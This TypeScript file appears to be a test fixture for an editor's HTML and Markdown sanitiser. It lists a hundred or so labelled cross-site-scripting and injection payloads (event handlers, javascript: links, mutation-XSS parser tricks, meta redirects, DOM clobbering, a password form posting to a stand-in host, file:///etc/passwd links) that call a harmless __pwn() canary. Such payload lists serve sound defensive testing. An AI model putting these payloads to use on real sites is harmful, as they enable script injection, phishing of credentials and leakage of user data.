// Posts of somebody who means harm, one trick each, in the ways that editors and sanitisers have failed before.
// `__pwn()` running, a request, or a page that goes elsewhere would be his success.

const elsewhere = 'http://elsewhere.example'
const svgWithScript = `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwn()"><script>top.__pwn()</script></svg>')}`

const padding = 'x '.repeat(600)
/** Longer than what the engine makes a card of, so that the layers alone stand against them. */
const longFrames = {
  remote: `<iframe ${padding} src="${elsewhere}/"></iframe>`,
  runs: `<iframe ${padding} src="javascript:top.__pwn()"></iframe>`,
  document: `<iframe ${padding} srcdoc="<script>top.__pwn()</script>"></iframe>`,
}

export const hostilePosts: Readonly<Record<string, string>> = {
  // Scripts
  'a script': '<script>__pwn()</script>',
  'a script in a paragraph': 'Hello <script>__pwn()</script> there',
  'a script from elsewhere': `<script src="${elsewhere}/x.js"></script>`,
  'a module from our own address': '<script type="module" src="/harness.js"></script>',
  'a script that a sanitiser puts together': '<scr<script>ipt>__pwn()</scr</script>ipt>',
  'a script in upper case with a slash': '<SCRIPT/X>__pwn()</SCRIPT/X>',
  'a script after a NUL': '<\0script>__pwn()</script><scr\0ipt>__pwn()</script>',

  // Handlers
  'a picture that fails': '<img src=x onerror=__pwn()>',
  'a picture that fails, with slashes for spaces': '<img/src="x"/onerror="__pwn()">',
  'a picture that fails, its handler in entities': '<img src=x onerror="&#95;&#95;pwn&lpar;&rpar;">',
  'a picture that fails in a table': '<table><tr><td><img src=x onerror=__pwn()></td></tr></table>',
  'a video that fails': '<video src=x onerror=__pwn()></video><video><source onerror=__pwn()></video>',
  'an audio that fails': '<audio src=x onerror=__pwn()></audio>',
  'a body that loads': '<body onload=__pwn() onpageshow=__pwn()>',
  'details that open': '<details open ontoggle=__pwn()><summary>x</summary></details>',
  'a field that takes the focus': '<input autofocus onfocus=__pwn()>',
  'an element that takes the focus': '<p id=x tabindex=1 autofocus onfocus=__pwn()>x</p>',
  'an animation that begins':
    '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=__pwn()>x</p>',
  'a marquee that begins': '<marquee onstart=__pwn()>x</marquee>',
  'a link under the pointer': '<a href="#" onmouseover=__pwn() onclick=__pwn()>x</a>',
  'a popover that opens': '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=__pwn()>x</p>',
  'a style that loads': '</pre><style onload=__pwn()></style><pre>',
  'content visibility': '<p style="content-visibility:auto" oncontentvisibilityautostatechange=__pwn()>x</p>',

  // Addresses that run
  'a link that runs': '[x](javascript:__pwn())',
  'a link that runs, in mixed case by entity': '[x](JaVaScRiPt&colon;__pwn())',
  'a link that runs, in brackets': '[x](<javascript:__pwn()>) <javascript:__pwn()>',
  'a link that runs, by reference': '[x]\n\n[x]: javascript:__pwn()',
  'a link that runs, encoded': '[x](javascript%3A__pwn%28%29) [y](&#x6A;avascript:__pwn())',
  'a link that runs, broken by a tab': '<a href="java\tscript:__pwn()">x</a>',
  'a link that runs, broken by entities': '<a href=" java&#10;script:__pwn()">x</a>',
  'a link that runs, after control characters': '<a href="&#1;&#14;javascript:__pwn()">x</a>',
  'a link that runs, in VBScript': '<a href="vbscript:__pwn()">x</a>',
  'a link to a document in itself':
    '<a href="data:text/html,<script>top.__pwn()</script>">x</a> [y](data:text/html;base64,PHNjcmlwdD50b3AuX19wd24oKTwvc2NyaXB0Pg==)',
  'a link that runs, in SVG': '<svg><a xlink:href="javascript:__pwn()"><text y="20">x</text></a></svg>',
  'a link that runs, in MathML': '<math><maction xlink:href="javascript:__pwn()" href="javascript:__pwn()">x',
  'a picture that runs': '![x](javascript:__pwn()) <img src="javascript:__pwn()">',
  'an area that runs': '<map name=m><area href="javascript:__pwn()" shape=default></map><img usemap="#m">',
  'a link to a file and to a share': '<a href="file:///etc/passwd">x</a> <a href="\\\\host\\share">y</a>',

  // SVG, MathML and parsers that disagree
  'an SVG that loads': '<svg onload=__pwn()></svg>',
  'an SVG with a script': '<svg><script>__pwn()</script></svg>',
  'an SVG that animates': '<svg><animate onbegin=__pwn() attributeName=x dur=1s></svg>',
  'an SVG that sets a link':
    '<svg><a><set attributeName=href to=javascript:__pwn() /><text y=20>x</text></a></svg>',
  'an SVG with HTML inside':
    '<svg><foreignObject><iframe srcdoc="<script>top.__pwn()</script>"></iframe></svg>',
  'an SVG that uses another': `<svg><use href="${elsewhere}/x.svg#x"/><image href="${elsewhere}/x.png"/></svg>`,
  'forms in MathML':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwn()></style></mglyph></form>',
  'a table in MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwn()&gt;">',
  'a style in SVG': '<svg></p><style><a id="</style><img src=1 onerror=__pwn()>">',
  'an annotation in MathML': '<math><annotation-xml encoding="text/html"><img src=x onerror=__pwn()></math>',
  'noscript and a title': '<noscript><p title="</noscript><img src=x onerror=__pwn()>"></noscript>',
  'xmp and a title': '<xmp><p title="</xmp><img src=x onerror=__pwn()>"></xmp>',
  'noembed and noframes':
    '<noembed><p title="</noembed><img src=x onerror=__pwn()>"></noembed><noframes><p title="</noframes><img src=x onerror=__pwn()>"></noframes>',
  'a textarea and a title': '<textarea><p title="</textarea><img src=x onerror=__pwn()>"></textarea>',
  'a comment that ends early': '<!--><img src=x onerror=__pwn()>--> <!--x--!><img src=x onerror=__pwn()>-->',
  'a tag that is none':
    '</ <img src=x onerror=__pwn()> <1<img src=x onerror=__pwn()> <%x<img src=x onerror=__pwn()>',
  'a declaration that is none': '<!x><img src=x onerror=__pwn()> <?x ><img src=x onerror=__pwn()>?>',
  'a CDATA section': '<svg><![CDATA[><img src=x onerror=__pwn()>]]></svg>',
  'a template': '<template><img src=x onerror=__pwn()></template>',
  'a template with a shadow':
    '<div><template shadowrootmode=open><img src=x onerror=__pwn()></template></div>',
  'five hundred nested elements': `${'<div>'.repeat(512)}<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwn()>`,
  'a tag that opens in one block and closes in another':
    '<div title="\n\n# " onmouseover=__pwn()\n\n"><img src=x onerror=__pwn()>\n\n</div>',

  // Frames, objects, forms
  'a frame': `<iframe src="${elsewhere}/"></iframe>`,
  'a frame that runs': '<iframe src="javascript:top.__pwn()"></iframe>',
  'a frame with a document in it': '<iframe srcdoc="<script>top.__pwn()</script>"></iframe>',
  'a frame of our own page':
    '<iframe src="/index.html"></iframe><frameset><frame src="/index.html"></frameset>',
  'a frame too long for a card': longFrames.remote,
  'a frame that runs, too long for a card': longFrames.runs,
  'a frame with a document, too long for a card': longFrames.document,
  'an object': `<object data="${svgWithScript}" type="image/svg+xml"></object><object data="javascript:__pwn()"></object>`,
  'an embed': `<embed src="${svgWithScript}"><embed src="javascript:__pwn()">`,
  'a portal and a fenced frame': `<portal src="${elsewhere}/"></portal><fencedframe></fencedframe><webview src="${elsewhere}/"></webview>`,
  'a form that runs': '<form action="javascript:__pwn()"><button>x</button></form>',
  'a button with its own address': `<form><button formaction="javascript:__pwn()">x</button><input type=submit formaction="${elsewhere}/"></form>`,
  'a field of another form': '<form id=f action="javascript:__pwn()"></form><button form=f>x</button>',
  'a dialog that asks for a password': `<dialog open><form action="${elsewhere}/"><input type=password name=p></form></dialog>`,
  'a page that goes elsewhere': `<meta http-equiv=refresh content="0;url=${elsewhere}/">`,
  'a page that goes elsewhere and runs': '<meta http-equiv="refresh" content="0;url=javascript:__pwn()">',
  'a base': `<base href="${elsewhere}/"><img src="x.png"><a href="y">y</a>`,
  'a link to the top': '<a href="/elsewhere.html" target=_top ping=/ping download>x</a>',

  // Requests
  'a style sheet': `<link rel=stylesheet href="${elsewhere}/x.css"><link rel=preload as=image href="${elsewhere}/x.png"><link rel=prefetch href="${elsewhere}/x"><link rel=dns-prefetch href="${elsewhere}">`,
  'a style with addresses': `<style>@import "${elsewhere}/x.css"; body { background: url(${elsewhere}/x.png) }</style>`,
  'an attribute with an address': `<p style="background:url('${elsewhere}/x.png')">x</p><table background="${elsewhere}/y.png"><tr><td>x</table>`,
  'a remote picture': `![x](${elsewhere}/x.png) <img src="//elsewhere.example/y.png"> <img src="\\\\elsewhere.example\\z.png">`,
  'a remote picture by other attributes': `<img srcset="${elsewhere}/x.png 2x" src="${elsewhere}/y.png" lowsrc="${elsewhere}/z.png" dynsrc="${elsewhere}/z.avi">`,
  'a remote picture of a picture element': `<picture><source srcset="${elsewhere}/x.webp"><img src="${elsewhere}/x.png"></picture>`,
  'a remote video': `<video src="${elsewhere}/x.mp4" poster="${elsewhere}/x.png" autoplay><source src="${elsewhere}/y.mp4"><track default src="${elsewhere}/x.vtt"></video><audio src="${elsewhere}/x.mp3" autoplay></audio>`,
  'a button that is a picture': `<input type=image src="${elsewhere}/x.png" onerror=__pwn()>`,
  'a picture with a script in it': `![x](${svgWithScript}) <img src="${svgWithScript}">`,
  'a picture of another scheme':
    '![x](asset://local//etc/passwd) ![y](galley://app/../x.png) ![z](//127.0.0.1:1/x.png)',

  // Names that stand in for the document's own, and marks that a script might act on
  'names of the document':
    '<img name=getElementById><form name=body><input name=attributes></form><a id=createElement name=createElement>x</a><img id=defaultView name=querySelector>',
  'names of the post’s own place':
    '<main id=post>x</main><div id="post"><p id=location>x</p></div><a name=post>x</a>',
  'marks that a script might act on': `<div data-line="1;x" data-target="${elsewhere}/x.png" data-background-iframe="javascript:__pwn()" data-src="${elsewhere}/x">x</div><button class=show-remote>Show</button>`,
  'custom elements':
    '<x-y onclick=__pwn()>x</x-y><p is=x-y onclick=__pwn()>x</p><slot onslotchange=__pwn()></slot>',

  // Markdown’s own places
  'a fence’s language': '```<style/onload=__pwn()>\nx\n```\n\n```js" onmouseover="__pwn()\nx\n```',
  'a fence’s text':
    '```html\n</code></pre><img src=x onerror=__pwn()>\n```\n\n`</code><img src=x onerror=__pwn()>`',
  'a diagram': '```mermaid\ngraph LR; id1["<iframe src=javascript:__pwn()></iframe>"]\n```',
  mathematics: '$$</script><img src=x onerror=__pwn()>$$ \\href{javascript:__pwn()}{x}',
  'a picture’s words':
    '![test" onerror="__pwn()](nope.png) ![x](nope.png "\\" onerror=__pwn() x=\\"") ![`\'"><img src=x onerror=__pwn()>](n.png)',
  'a picture that is found':
    '![x](found" onerror="__pwn\\(\\).png) ![x](found<img/src=x/onerror=__pwn\\(\\)>.png)',
  'the path of a missing picture': '![x](<nope&lt;img src=x onerror=__pwn()&gt;.png>)',
  'the host of a remote picture': '![x](http://"><img/src=x/onerror=__pwn()>.example/x.png)',
  'a link’s title': '[x](y "\\"><img src=x onerror=__pwn()>") [<img src=x onerror=__pwn()>](y)',
  'an address in the text':
    'https://x.example/"onmouseover=__pwn() <https://x.example/"onmouseover="__pwn()> www.x.example/"><img src=x onerror=__pwn()>',
  'a heading': '# <img src=x onerror=__pwn()>\n\n## " onmouseover="__pwn()\n\n### <script>__pwn()</script>',
  'a footnote':
    'x[^1]\n\n[^1]: <img src=x onerror=__pwn()> <script>__pwn()</script>\n\ny^[<svg onload=__pwn()>]',
  'a footnote’s name': 'x[^"><img src=x onerror=__pwn()>]\n\n[^"><img src=x onerror=__pwn()>]: y',
  'a task': '- [ ] <img src=x onerror=__pwn()>\n- [x] <input type=checkbox onclick=__pwn()>',
  'a table’s cell': '| a | b |\n| - | :-: |\n| <img src=x onerror=__pwn()> | `<svg onload=__pwn()>` |',
  'the front matter’s title': '---\ntitle: <img src=x onerror=__pwn()>\n---\n\nx\n',
  'the front matter’s title that closes its heading':
    '---\ntitle: "</h1><script>__pwn()</script><h1>"\n---\n\nx\n',
  'the front matter’s tags':
    '---\ntitle: x\ntags: ["<svg onload=__pwn()>", "&lt;img src=x onerror=__pwn()&gt;"]\n---\nx\n',
  'the front matter’s place and date':
    '+++\ndate = "<img src=x onerror=__pwn()>"\ncategory = "\\" onmouseover=\\"__pwn()"\n+++\nx\n',
  'escapes that are undone':
    '&lt;img src=x onerror=__pwn()&gt; &quot;" onerror=__pwn() \\<img src=x onerror=__pwn()>',
}

export type Planted = {
  readonly post: string
  /** What must be seen of it where no layer stands. */
  readonly seen: 'script' | 'request' | 'navigation' | 'survivor'
}

/** Posts that do their harm where nothing stands in their way: whoever does not see them sees nothing. */
export const plantedPosts: Readonly<Record<string, Planted>> = {
  'a script': { post: '<script>__pwn()</script>', seen: 'script' },
  'a picture’s handler': { post: '<img src=x onerror=__pwn()>', seen: 'script' },
  'a script from the same address': { post: '<script src="/pwn.js"></script>', seen: 'script' },
  'an SVG’s handler': { post: '<svg onload=__pwn()></svg>', seen: 'script' },
  'an animation’s handler': {
    post: '<svg><animate onbegin=__pwn() attributeName=x dur=1s></svg>',
    seen: 'script',
  },
  'a toggle’s handler': {
    post: '<details open ontoggle=__pwn()><summary>x</summary></details>',
    seen: 'script',
  },
  'a pointer’s handler': { post: '<b onmouseover=__pwn()>x</b>', seen: 'script' },
  'a click’s handler': { post: '<b onclick=__pwn()>x</b>', seen: 'script' },
  'a link that runs': { post: '<a href="javascript:__pwn()">x</a>', seen: 'script' },
  'a frame that runs': { post: longFrames.runs, seen: 'script' },
  'a frame with a document': { post: longFrames.document, seen: 'script' },
  'a form that runs': { post: '<form action="javascript:__pwn()"><button>x</button></form>', seen: 'script' },
  'a video’s handler': {
    post: '<video><source onerror=__pwn()></video>\n',
    seen: 'script',
  },
  'a remote picture': { post: `<img src="${elsewhere}/x.png">`, seen: 'request' },
  'a remote style sheet': { post: `<link rel=stylesheet href="${elsewhere}/x.css">`, seen: 'request' },
  'a remote background': { post: `<p style="background:url(${elsewhere}/x.png)">x</p>`, seen: 'request' },
  'a remote poster': { post: `<video poster="${elsewhere}/x.png"></video>`, seen: 'request' },
  'a remote frame': { post: longFrames.remote, seen: 'request' },
  'a page that goes elsewhere': {
    post: `<meta http-equiv=refresh content="0;url=/elsewhere.html">`,
    seen: 'navigation',
  },
  'a form that goes elsewhere': {
    post: '<form action="/elsewhere.html"><button>x</button></form>',
    seen: 'navigation',
  },
  'a new window': { post: '<img src=x onerror="window.open(\'/elsewhere.html\')">', seen: 'navigation' },
  'a base': { post: `<base href="/x/">`, seen: 'survivor' },
  'a mark': { post: '<p data-x="1">x</p>', seen: 'survivor' },
  'a name': { post: '<a name=body>x</a>', seen: 'survivor' },
  'an SVG': { post: '<svg></svg>', seen: 'survivor' },
}
